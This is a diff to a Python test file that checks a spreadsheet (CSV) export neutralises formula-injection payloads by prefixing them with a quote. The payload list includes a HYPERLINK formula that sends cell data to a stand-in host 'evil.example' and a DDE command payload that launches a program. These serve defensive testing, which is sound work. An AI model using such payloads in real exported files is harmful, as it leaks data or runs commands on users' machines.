@@ -19,7 +19,7 @@ from tests.views.conftest import person, proposal
 
 PAYLOADS = (
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", '=HYPERLINK("https://evil.example?"&A1)',
-    "  =cmd|' /C calc'!A0", "＝1+1",
+    "  =cmd|' /C calc'!A0", "＝1+1", "\ufeff=1", "\u2003@x", "\u200b+1",
 )  # fmt: skip
 """What a spreadsheet could take for a formula, or run."""
 
@@ -37,11 +37,22 @@ def read(lines: Any) -> list[dict[str, str]]:
 @pytest.mark.parametrize("payload", PAYLOADS)
 @pytest.mark.parametrize("column", COLUMNS)
 def test_no_cell_begins_as_a_formula(column: str, payload: str) -> None:
-    """Ten payloads in each text column: marked as text, and whole behind the mark."""
+    """Each payload in each text column: marked as text, and whole behind the mark."""
     cells = [payload if name == column else "harmless" for name in sheet.HEAD]
     (row,) = read([sheet.line(sheet.HEAD), sheet.line(cells)])
     assert row[column] == f"'{payload}"
     assert all(row[name] == "harmless" for name in sheet.HEAD if name != column)
+
+
+@pytest.mark.parametrize(
+    ("payload", "kept"),
+    [("x;=1+1;y", "x;'=1+1;y"), ("x; @SUM(A1)", "x; '@SUM(A1)"), ('x";"-2+3', 'x";"\'-2+3'), ("x\t=1", "x\t'=1"),
+     ("x,+1", "x,'+1"), ("x\r\n=1", "x\r\n'=1"), ("x;\ufeff＝1", "x;\ufeff'＝1"), ("=1;=2", "'=1;'=2"), ("a;b", "a;b")],
+)  # fmt: skip
+def test_no_part_of_a_cell_begins_as_a_formula(payload: str, kept: str) -> None:
+    """Where the list separator is another one, a cell is split in its middle: no part is a formula either."""
+    (cells,) = csv.reader(io.StringIO(sheet.line([payload]), newline=""), strict=True)
+    assert cells == [kept]
 
 
 @pytest.mark.parametrize("told", ['a "quoted" word', "one,\r\ntwo", "", "ärger 💶", "'already", "1=1", "10.00"])
